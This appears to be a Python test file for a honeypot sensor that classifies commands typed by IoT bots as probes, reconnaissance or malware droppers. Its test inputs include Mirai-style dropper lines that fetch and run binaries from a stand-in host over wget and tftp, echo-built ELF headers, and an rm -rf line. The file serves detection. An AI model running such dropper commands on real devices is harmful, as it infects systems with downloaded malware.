"""What bots type, and what people do."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.sensor.payloads.bot_commands import DROPPER, LOOK, PROBE, BotCommands


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (b"/bin/busybox ECCHI\r\n", PROBE),
        (b"enable\r\nsh\r\n/bin/busybox MIRAI\r\n", PROBE),
        (b"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n", PROBE | LOOK),
        (b"dd bs=52 count=1 if=/bin/ls || cat /bin/echo\r\n", PROBE),
        (b"cat /proc/cpuinfo\r\n", LOOK),
        (b"rm -rf /var/run/1\r\n", LOOK),
        (b"echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .x\r\n", DROPPER),
        (b"/bin/busybox echo -en \\\\x7f\\\\x45\\\\x4c\\\\x46 >> upnp\r\n", DROPPER),
        (b"wget http://192.0.2.66/x.arm -O- >x; chmod 777 x\r\n", DROPPER),
        (b"cd /tmp; tftp -g -r x.mips 192.0.2.66; sh x\r\n", DROPPER),
        (b"/bin/busybox tftp -r a -l b -g host\r\n", DROPPER),
        (b"/bin/busybox ls\r\n", 0),
        (b"busybox --help | more\r\n", 0),
        (b"cat /bin/lsof.conf\r\n", 0),
        (b"echo -e done\r\n", 0),
        (b"wget http://updates.example.org/os.tar\r\n", 0),
        (b"ping 192.0.2.66\r\n", 0),
        (b"cat /proc/meminfo\r\n", 0),
    ],
)
def test_what_is_typed(typed: bytes, expected: int) -> None:
    assert BotCommands().look(typed) == expected


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_no_bytes_make_it_fail(payload: bytes) -> None:
    assert 0 <= BotCommands().look(b"busybox " + payload) <= PROBE | LOOK | DROPPER
